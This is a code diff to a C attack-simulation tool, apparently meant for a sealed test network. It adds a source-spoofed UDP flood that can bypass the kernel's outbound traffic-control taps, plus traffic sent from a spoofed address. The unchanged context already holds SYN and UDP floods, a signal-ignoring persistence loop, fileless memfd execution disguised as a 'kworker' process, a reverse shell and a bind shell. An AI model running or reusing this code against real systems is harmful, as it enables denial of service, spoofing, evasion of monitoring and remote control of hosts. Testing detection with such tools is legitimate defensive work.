@@ -4,6 +4,8 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <netinet/ip.h>
+#include <linux/if_ether.h>
+#include <linux/if_packet.h>
 #include <netinet/tcp.h>
 #include <signal.h>
 #include <stdio.h>
@@ -79,6 +81,23 @@ static void packetflood(double seconds) {
     if (p.ip.protocol == IPPROTO_TCP) { p.body[12] = 5 << 4; p.body[13] = 2; } else if (p.ip.protocol == IPPROTO_UDP) memcpy(p.body + 4, &length, 2); else { p.body[0] = 8; p.body[1] = 0; }
     struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = p.ip.daddr}; sendto(s, &p, sizeof p, 0, (void *)&a, sizeof a); } }
 
+/* One datagram to a place, then a flood that says it comes from there; past the taps of the way out when asked to. */
+static void spoofflood(const char *ip, int port, const char *from, double seconds, int bypass) {
+  int u = socket(AF_INET, SOCK_DGRAM, 0), s = bypass ? socket(AF_PACKET, SOCK_DGRAM, 0) : socket(AF_INET, SOCK_RAW, IPPROTO_RAW), one = 1; struct sockaddr_in a = at(ip, port), f = at(from, 7777);
+  struct sockaddr_ll l = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = 1, .sll_halen = 6}; if (s < 0) { perror("raw socket"); exit(1); }
+  if (bypass) setsockopt(s, SOL_PACKET, 20 /* PACKET_QDISC_BYPASS */, &one, sizeof one);
+  struct { struct iphdr ip; unsigned short udp[4]; char body[100]; } __attribute__((packed)) p; double end = now() + seconds; sendto(u, "hello", 5, 0, (void *)&f, sizeof f);
+  for (unsigned i = 0; now() < end; i++) { memset(&p, 0, sizeof p); p.ip.version = 4; p.ip.ihl = 5; p.ip.ttl = 64; p.ip.protocol = 17; p.ip.tot_len = htons(sizeof p);
+    p.ip.saddr = f.sin_addr.s_addr; p.ip.daddr = a.sin_addr.s_addr; p.udp[0] = f.sin_port; p.udp[1] = a.sin_port; p.udp[2] = htons(sizeof p - 20); p.ip.check = sum(&p.ip, 20);
+    sendto(s, &p, sizeof p, 0, bypass ? (void *)&l : (void *)&a, bypass ? sizeof l : sizeof a); if (i % 4 == 0) usleep(1500); } }
+
+/* Talks from an address that is nobody's: everything is local in the sealed network. */
+static void fromelsewhere(const char *from, const char *ip, int port) {
+  char b[512]; struct sockaddr_in me = at(from, 0), a = at(ip, port), d = at(ip, 53); int s = socket(AF_INET, SOCK_STREAM, 0), u = socket(AF_INET, SOCK_DGRAM, 0), n; struct timeval t = {2, 0};
+  const unsigned char q[] = {7, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 5, 'p', 'l', 'a', 'c', 'e', 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 0, 0, 1, 0, 1};
+  setsockopt(u, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t); if (bind(s, (void *)&me, sizeof me) || bind(u, (void *)&me, sizeof me) || connect(s, (void *)&a, sizeof a)) { perror(from); exit(1); }
+  n = snprintf(b, sizeof b, "GET / HTTP/1.0\r\nHost: place.example\r\n\r\n"); send(s, b, n, 0); while (read(s, b, sizeof b) > 0); sendto(u, q, sizeof q, 0, (void *)&d, sizeof d); if (recv(u, b, sizeof b, 0) > 0) puts("answered"); }
+
 static void serve(int port, const char *shell) {
   int l = socket(AF_INET, SOCK_STREAM, 0), one = 1; setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one); struct sockaddr_in a = at("0.0.0.0", port);
   if (bind(l, (void *)&a, sizeof a) || listen(l, 4)) { perror("listen"); exit(1); }
@@ -100,6 +119,8 @@ int main(int argc, char **v) {
   else if (IS("stay", 1)) { for (int i = 1; i < 32; i++) signal(i, SIG_IGN); for (;;) pause(); }
   else if (IS("synflood", 4)) synflood(v[2], atoi(v[3]), atof(v[4]));
   else if (IS("udpflood", 4)) { int s = socket(AF_INET, SOCK_DGRAM, 0); struct sockaddr_in a = at(v[2], atoi(v[3])); double end = now() + atof(v[4]); memset(b, 'x', 512); for (unsigned i = 0; now() < end; i++) { sendto(s, b, 512, 0, (void *)&a, sizeof a); if (i % 50 == 0) usleep(1000); } }
+  else if (IS("spoofflood", 5)) spoofflood(v[2], atoi(v[3]), v[4], atof(v[5]), argc > 6);
+  else if (IS("fromelsewhere", 4)) { fromelsewhere(v[2], v[3], atoi(v[4])); sleep(2); }
   else if (IS("memfd", 2)) { int in = open(v[2], O_RDONLY), m = memfd_create("kworker", 0), n; while ((n = read(in, b, sizeof b)) > 0) (void)!write(m, b, n); char *none[] = {0}; fexecve(m, v + 2, none); perror("memfd"); return 1; }
   else if (IS("shell", 4)) { int s = dial(v[2], atoi(v[3])); if (s < 0) return 1; struct timeval t = {0, 0}; setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t); for (int i = 0; i < 3; i++) dup2(s, i); execl(v[4], "sh", "-i", (char *)0); return 1; }
   else if (IS("serve", 3)) serve(atoi(v[2]), v[3]);
